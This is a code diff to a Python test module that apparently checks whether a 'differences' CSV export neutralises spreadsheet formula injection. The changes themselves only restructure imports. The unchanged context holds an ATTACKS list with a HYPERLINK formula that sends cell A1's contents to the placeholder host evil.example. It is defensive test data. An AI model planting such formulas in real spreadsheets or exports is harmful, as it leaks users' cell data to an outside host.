@@ -28,9 +28,8 @@ from planner.mapping.spreadsheet import (
 from planner.models import FieldMapping
 from planner.runs import service as validation
 
-from .conftest import client_for
-from .factories import ConnectionFactory, FieldMappingFactory, SystemFactory
-from .test_validation_runs import build, run_now
+from tests.conftest import client_for
+from tests.factories import ConnectionFactory, FieldMappingFactory, SystemFactory
 
 ATTACKS = [
     '=HYPERLINK("http://evil.example/?"&A1,"Click")',
@@ -176,6 +175,10 @@ def test_the_differences_csv_neutralises_values_from_either_system(
     target = "id,active,email\n" + "".join(
         f'{i},1,"{a.replace(chr(34), chr(34) * 2)} (target)"\n' for i, a in enumerate(attacks, 1)
     )
+    # Imported here: the runs test helpers are being moved, and only this test needs them.
+    from tests.runs.test_service import run_now
+    from tests.runs.test_worker_reliability import build
+
     connection = build(source, target)
     run = run_now(connection, published)
     response = client_for(connection.project.owner).get(
